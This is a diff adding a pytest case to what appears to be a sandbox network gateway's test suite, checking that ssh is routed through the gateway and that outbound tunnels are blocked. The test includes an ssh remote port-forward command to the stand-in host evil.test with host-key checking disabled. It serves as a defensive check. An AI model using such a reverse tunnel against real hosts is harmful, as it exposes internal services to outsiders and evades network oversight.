@@ -12,7 +12,7 @@ import pytest
 
 from jackline.contain.gateway import messages as say
 from tests.contain.gateway import inside
-from tests.contain.gateway.running import allow, deny, dial, http_server, rest
+from tests.contain.gateway.running import Server, allow, deny, dial, http_server, rest, upto
 
 CURL = ("curl", "-sS", "--max-time", "15")
 HELLO = b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\n\r\nhello\n"
@@ -105,6 +105,34 @@ def test_a_program_is_told_what_to_ask_for(start, outside):
     )
     _, out = inside.run(keeper, sys.executable, "-c", script, environment=WITH_PROXY, action="A2")
     assert 'ask="connect evil.test:80"' in out
+
+
+@pytest.mark.skipif(not shutil.which("ssh"), reason="ssh is not here")
+def test_ssh_that_knows_no_proxy(start):
+    def banner(server, connection):
+        server.seen.append(upto(connection, b"\r\n"))
+        connection.sendall(b"SSH-2.0-server\r\nno key exchange")
+
+    with Server(banner) as server:
+        keeper = start(judge, {"a.test": ["127.0.0.1"], ":22": server.port})
+        ssh = (
+            "ssh",
+            "-F",
+            "none",
+            "-o",
+            "BatchMode=yes",
+            "-o",
+            "StrictHostKeyChecking=no",
+            "-o",
+            "UserKnownHostsFile=/dev/null",
+        )
+        code, out = inside.run(keeper, *ssh, "a.test", "true")
+        assert code == 255, out
+        assert server.seen[0].startswith(b"SSH-2.0-OpenSSH")
+        assert keeper.wait(say.Closed).sent > 20
+        _, out = inside.run(keeper, *ssh, "-v", "-R", "9000:localhost:22", "evil.test", action="A2")
+        assert "Could not resolve hostname evil.test" in out
+        assert len(server.seen) == 1
 
 
 # ------------------------------------------------------------------------------------------------------------- tools
